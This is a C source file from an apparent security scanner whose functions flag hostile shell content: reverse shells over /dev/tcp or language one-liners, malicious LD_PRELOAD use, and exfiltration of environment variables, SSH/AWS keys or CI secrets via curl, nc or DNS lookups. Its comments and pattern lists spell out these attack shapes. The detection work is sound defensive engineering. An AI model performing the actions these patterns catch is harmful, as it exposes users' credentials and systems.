/* SPDX-License-Identifier: MIT
 * Commands that send something away, take orders from somebody, or load something
 * into all programs.
 */
#define _GNU_SOURCE /* memmem */
#include "audit/check_shell_part.h"

/* The end of the line that `at` is on, or as far as words of one command are apart. */
static size_t
line_end(struct text t, size_t at)
{
	size_t n = MIN(t.len - at, (size_t)NEAR);
	const char *p = memchr(t.s + at, '\n', n);

	return p != NULL ? (size_t)(p - t.s) : at + n;
}

/* exec 5<>/dev/tcp/host/port, and what comes from there is run.  Who waits for a
 * port or asks for a page does not. */
size_t
check_shell_connects(struct text t)
{
	static const char *const run[] = {"| sh\n", "|sh\n", "| bash\n",
	    "|bash\n", "eval ", "$line", "do $", NULL};
	size_t at = find(t, 0, t.len, "<>/dev/tcp/");

	return at != SIZE_MAX && any(t, run) ? at : SIZE_MAX;
}

/* What bash runs before each prompt asks for something elsewhere. */
size_t
check_shell_prompts(struct text t)
{
	static const char *const tool[] = {
	    "curl", "wget", "nc", "ncat", "/dev/tcp/"};
	static const char set[] = "prompt_command=";
	size_t at = find(t, 0, t.len, set), from, end;
	const char *quote;

	if (at == SIZE_MAX)
		return at;
	from = at + sizeof(set) - 1;
	end = line_end(t, at);
	/* to the quote that ends it */
	quote = from + 1 < end && strchr("'\"", t.s[from]) != NULL
		    ? memchr(t.s + from + 1, t.s[from], end - from - 1)
		    : NULL;
	end = quote != NULL ? (size_t)(quote - t.s) : end;
	for (size_t i = 0; i < ARRAY_LEN(tool); i++)
		if (find_alone(t, from, end, tool[i]) != SIZE_MAX)
			return at;
	return SIZE_MAX;
}

/* A library for every program that starts, from where anybody can write or
 * from the bundle itself: allocators lie in /usr. */
size_t
check_shell_preloads(struct text t)
{
	static const char *const set[] = {
	    "ld_preload=", "ld_audit=", "dyld_insert_libraries="};
	static const char *const from[] = {
	    "/tmp/", "/var/tmp/", "/dev/shm/", "./", "../", "$pwd", "${pwd"};

	for (size_t i = 0; i < ARRAY_LEN(set); i++) {
		size_t at = find(t, 0, t.len, set[i]), k;

		if (at == SIZE_MAX)
			continue;
		k = at + strlen(set[i]);
		k += k < t.len && (t.s[k] == '"' || t.s[k] == '\'');
		for (size_t j = 0; j < ARRAY_LEN(from); j++)
			if (find(t, k, k + strlen(from[j]), from[j]) == k)
				return at;
	}
	return find(t, 0, t.len, "> /etc/ld.so.preload") != SIZE_MAX
		   ? find(t, 0, t.len, "/etc/ld.so.preload")
		   : find(t, 0, t.len, "tee /etc/ld.so.preload");
}

/* Program text for Python that runs what it downloads or decodes, or hands a shell to
 * a socket. */
static size_t
python(struct text t)
{
	static const char *const run[] = {"exec(", "eval("};
	static const char *const from[] = {"urlopen(", "requests.get(",
	    "b64decode(", "fromhex(", "decompress("};
	size_t at = 0;

	while ((at = find(t, at, t.len, "python")) != SIZE_MAX) {
		size_t to = at + NEAR, option = find(t, at, at + 16, " -c");

		for (size_t i = 0; option != SIZE_MAX && i < ARRAY_LEN(run);
		     i++)
			for (size_t k = 0; k < ARRAY_LEN(from); k++)
				if (find(t, option, to, run[i]) != SIZE_MAX &&
				    find(t, option, to, from[k]) != SIZE_MAX)
					return at;
		if (option != SIZE_MAX &&
		    find(t, option, to, "socket") != SIZE_MAX &&
		    (find(t, option, to, "dup2(") != SIZE_MAX ||
			find(t, option, to, "pty.spawn(") != SIZE_MAX))
			return at;
		at++;
	}
	return SIZE_MAX;
}

/* The same in other languages. */
size_t
check_shell_programs(struct text t)
{
	static const char *const shell[][3] = {{"perl -e", "socket", "exec"},
	    {"php -r", "fsockopen(", "exec("},
	    {"ruby -rsocket", "tcpsocket", "exec"}};
	size_t at = python(t);

	for (size_t i = 0; i < ARRAY_LEN(shell) && at == SIZE_MAX; i++) {
		size_t from = find(t, 0, t.len, shell[i][0]);

		if (from != SIZE_MAX &&
		    find(t, from, from + NEAR, shell[i][1]) != SIZE_MAX &&
		    find(t, from, from + NEAR, shell[i][2]) != SIZE_MAX)
			at = from;
	}
	return at;
}

/* Uploads on this line, as a tool spells it. */
static bool
uploads(struct text t, size_t from, size_t to)
{
	static const char *const how[] = {
	    "curl", "wget", "nc", "ncat", "socat"};

	for (size_t i = 0; i < ARRAY_LEN(how); i++)
		if (find_alone(t, from, to, how[i]) != SIZE_MAX)
			return true;
	return false;
}

/* A folder of secrets as a whole, with nothing behind its name. */
static bool
has_folder(struct text t, size_t from, size_t to)
{
	static const char *const folder[] = {"~/.ssh", "$home/.ssh",
	    "${home}/.ssh", "/root/.ssh", "~/.aws", "$home/.aws", "~/.gnupg",
	    "~/.kube", "~/.config/gcloud"};

	for (size_t i = 0; i < ARRAY_LEN(folder); i++) {
		size_t at = find(t, from, to, folder[i]), end;

		end = at != SIZE_MAX ? at + strlen(folder[i]) : t.len;
		end += end < t.len && t.s[end] == '/';
		if (at != SIZE_MAX &&
		    (end >= t.len || strchr(" \n|;)\"'", t.s[end]) != NULL))
			return true;
	}
	return false;
}

/* for v in $(env | base64); do dig $v.host; done: the environment, made to fit
 * into names or addresses, and then asked for. */
static bool
asks(struct text t, size_t at, size_t end)
{
	static const char *const pack[] = {
	    "base64", "base32", "xxd", "od", "hexdump", "openssl"};
	static const char *const ask[] = {
	    "dig", "nslookup", "drill", "ping", "curl", "wget", "nc"};
	size_t before = at > 200 ? at - 200 : 0, to = at + NEAR;
	bool packs = false;

	if (at < 1 || (t.s[at - 1] != '(' && t.s[at - 1] != '`'))
		return false;
	for (size_t i = 0; i < ARRAY_LEN(pack); i++)
		packs = packs || find_alone(t, at, end, pack[i]) != SIZE_MAX;
	for (size_t i = 0; packs && i < ARRAY_LEN(ask); i++)
		if (find_alone(t, before, to, ask[i]) != SIZE_MAX)
			return true;
	return packs && find(t, at, to, "; do host $") != SIZE_MAX;
}

/* curl -d "${{ secrets.TOKEN }}" http://...: a secret of a workflow, where anybody
 * on the way can read it. */
static size_t
sends_secret(struct text t)
{
	size_t at = 0;

	while ((at = find(t, at, t.len, "${{ secrets.")) != SIZE_MAX) {
		size_t from = at, end = line_end(t, at);

		while (from > 0 && at - from < NEAR && t.s[from - 1] != '\n')
			from--;
		if (uploads(t, from, end) &&
		    find(t, from, end, "http://") != SIZE_MAX &&
		    find(t, from, end, "http://localhost") == SIZE_MAX &&
		    find(t, from, end, "http://127.") == SIZE_MAX)
			return at;
		at++;
	}
	return SIZE_MAX;
}

/* env | curl ...; curl -d "$(env)"; tar c ~/.ssh | curl ... */
size_t
check_shell_sends(struct text t)
{
	static const char *const all[] = {"env", "printenv", "export -p"};
	static const char *const packed[] = {"tar", "zip", "cat"};

	for (size_t i = 0; i < ARRAY_LEN(all); i++)
		for (size_t at = 0;
		     (at = find_alone(t, at, t.len, all[i])) != SIZE_MAX;
		     at++) {
			size_t k = at + strlen(all[i]), end = line_end(t, at);

			while (k < end && t.s[k] == ' ')
				k++;
			if (k < end && t.s[k] == '|' &&
			    (uploads(t, k, end) || asks(t, at, end)))
				return at;
			if (at > 1 && t.s[at - 1] == '(' &&
			    t.s[at - 2] == '$' && k < end && t.s[k] == ')' &&
			    uploads(t, at > 200 ? at - 200 : 0, at))
				return at;
		}
	for (size_t i = 0; i < ARRAY_LEN(packed); i++)
		for (size_t at = 0;
		     (at = find_alone(t, at, t.len, packed[i])) != SIZE_MAX;
		     at++)
			if (has_folder(t, at, line_end(t, at)) &&
			    uploads(t, at, line_end(t, at)))
				return at;
	return sends_secret(t);
}
